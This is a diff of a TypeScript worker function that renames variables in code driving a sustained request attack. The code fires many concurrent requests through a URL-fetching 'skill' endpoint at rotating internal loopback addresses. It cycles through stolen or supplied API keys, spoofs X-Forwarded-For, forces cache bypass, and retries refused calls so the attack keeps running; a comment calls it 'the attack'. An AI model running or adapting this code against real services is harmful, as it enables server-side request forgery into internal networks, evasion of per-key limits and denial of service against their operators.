@@ -24,18 +24,18 @@ async function handle(order: Order): Promise<object> {
   stop();
   if ('end' in order) return {};
   const { utility, keys, port, path, skill, callsAtOnce } = order.begin;
-  const going = new Set<http.ClientRequest>();
-  let on = true;
+  const requests = new Set<http.ClientRequest>();
+  let isRunning = true;
   let n = 0;
   const call = (): void => {
-    if (!on) return;
+    if (!isRunning) return;
     const i = n++;
     const url = encodeURIComponent(`http://127.0.0.${(i % 200) + 2}:${port}${path}${i}`);
     const headers = { 'x-ally-key': keys[i % keys.length] ?? '', 'x-forwarded-for': '203.0.113.7' };
     const request = http.get(`${utility}/${skill}?url=${url}&max_age=0`, { agent, headers });
-    going.add(request);
+    requests.add(request);
     const again = (pauseMs: number) => {
-      if (going.delete(request)) setTimeout(call, pauseMs);
+      if (requests.delete(request)) setTimeout(call, pauseMs);
     };
     request.on('response', (response) => {
       // Refused calls are repeated after a pause, so that the attack is the work and not a flood of refusals.
@@ -47,9 +47,9 @@ async function handle(order: Order): Promise<object> {
   };
   for (let i = 0; i < callsAtOnce; i++) call();
   stop = () => {
-    on = false;
-    for (const request of going) request.destroy();
-    going.clear();
+    isRunning = false;
+    for (const request of requests) request.destroy();
+    requests.clear();
   };
   return {};
 }
